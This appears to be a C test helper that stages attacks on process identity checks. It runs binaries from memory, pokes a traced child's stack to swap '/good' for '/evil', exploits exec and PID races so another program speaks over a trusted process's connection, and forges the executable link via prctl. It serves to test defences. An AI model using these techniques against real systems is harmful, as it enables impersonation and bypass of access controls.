/* Attacks of one program on another's identity. The first argument selects the attack. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <netdb.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static int failed(const char *what) {
    perror(what);
    return 1;
}

/* memory PROGRAM ARGUMENT...: the program's bytes, run from memory. */
static int memory(char **argv) {
    int from = open(argv[0], O_RDONLY), to = memfd_create("program", 0);
    static char buffer[1 << 16];
    for (int length; (length = read(from, buffer, sizeof buffer)) > 0;)
        if (write(to, buffer, length) != length) return failed("write");
    fexecve(to, argv, environ);
    return failed("fexecve");
}

/* trace PROGRAM ARGUMENT...: makes the program request /evil instead of /good. */
static int trace(char **argv) {
    int child = fork(), status;
    if (child == 0) {
        ptrace(PTRACE_TRACEME, 0, 0, 0);
        execv(argv[0], argv);
        _exit(127);
    }
    waitpid(child, &status, 0);
    if (!WIFSTOPPED(status)) return failed("trace");
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", child);
    FILE *maps = fopen(path, "r");
    unsigned long start = 0, end = 0;
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "[stack]")) sscanf(line, "%lx-%lx", &start, &end);
    snprintf(path, sizeof path, "/proc/%d/mem", child);
    int mem = open(path, O_RDWR);
    char *stack = malloc(end - start);
    if (mem < 0 || pread(mem, stack, end - start, start) <= 0) return failed("mem");
    char *place = memmem(stack, end - start, "/good", 5);
    if (!place || pwrite(mem, "/evil", 5, start + (place - stack)) != 5) return failed("poke");
    ptrace(PTRACE_DETACH, child, 0, 0);
    waitpid(child, &status, 0);
    return WEXITSTATUS(status);
}

static int lead_to(const char *host, const char *port, struct addrinfo **there) {
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM};
    return getaddrinfo(host, port, &hints, there) == 0 ? 0 : failed("getaddrinfo");
}

static void ready_and_wait(const char *what) {
    char line[16];
    printf("%s\n", what);
    fflush(stdout);
    if (!fgets(line, sizeof line, stdin)) exit(3);
}

/* Uses the connection from another program. */
static void speak(int fd, char **speaker) {
    dup2(fd, 9);
    execv(speaker[0], speaker);
    _exit(127);
}

/* become HOST PORT PROGRAM FIFO SPEAKER...: connects, becomes the program, and has another speak. */
static int become(char **argv) {
    struct addrinfo *there;
    if (lead_to(argv[0], argv[1], &there)) return 1;
    ready_and_wait("ready");
    int fd = socket(there->ai_family, SOCK_STREAM, 0);
    if (connect(fd, there->ai_addr, there->ai_addrlen)) return failed("connect");
    int parent = getpid();
    if (fork() == 0) {
        char path[64], exe[PATH_MAX] = "", *wanted = realpath(argv[2], NULL);
        snprintf(path, sizeof path, "/proc/%d/exe", parent);
        while (strcmp(exe, wanted)) exe[readlink(path, exe, sizeof exe - 1)] = 0;
        ready_and_wait("became");
        speak(fd, argv + 4);
    }
    /* It reads commands from a pipe without a writer. */
    execl(argv[2], argv[2], "-K", argv[3], NULL);
    return failed("exec");
}

/* leave HOST PORT PROGRAM FIFO SPEAKER...: connects and ends; a child of it starts the program, again and again
 * until the one who reads says that it has got the id, and then has another speak. */
static int leave(char **argv) {
    struct addrinfo *there;
    if (lead_to(argv[0], argv[1], &there)) return 1;
    ready_and_wait("ready");
    int fd = socket(there->ai_family, SOCK_STREAM, 0);
    if (connect(fd, there->ai_addr, there->ai_addrlen)) return failed("connect");
    if (fork()) return 0;
    while (getppid() != 1) usleep(1000);
    char line[16];
    for (printf("left\n"), fflush(stdout); fgets(line, sizeof line, stdin) && line[0] == 'a';) {
        int child = fork();
        if (child == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            execl(argv[2], argv[2], "-K", argv[3], NULL);
            _exit(127);
        }
        printf("started\n"), fflush(stdout);
        if (!fgets(line, sizeof line, stdin) || line[0] == 'y') break;
        kill(child, 9);
        waitpid(child, NULL, 0);
        printf("again\n"), fflush(stdout);
    }
    speak(fd, argv + 4);
    return 1;
}

/* forge PROGRAM: names the program as its own executable. */
static int forge(char **argv) {
    int file = open(argv[0], O_RDONLY);
    if (prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, file, 0, 0)) return failed("forge");
    return 0;
}

int main(int argc, char **argv) {
    /* All of this ends with its test. */
    alarm(60);
    if (argc < 3) return 2;
    if (!strcmp(argv[1], "memory")) return memory(argv + 2);
    if (!strcmp(argv[1], "trace")) return trace(argv + 2);
    if (!strcmp(argv[1], "become")) return become(argv + 2);
    if (!strcmp(argv[1], "leave")) return leave(argv + 2);
    if (!strcmp(argv[1], "forge")) return forge(argv + 2);
    return 2;
}
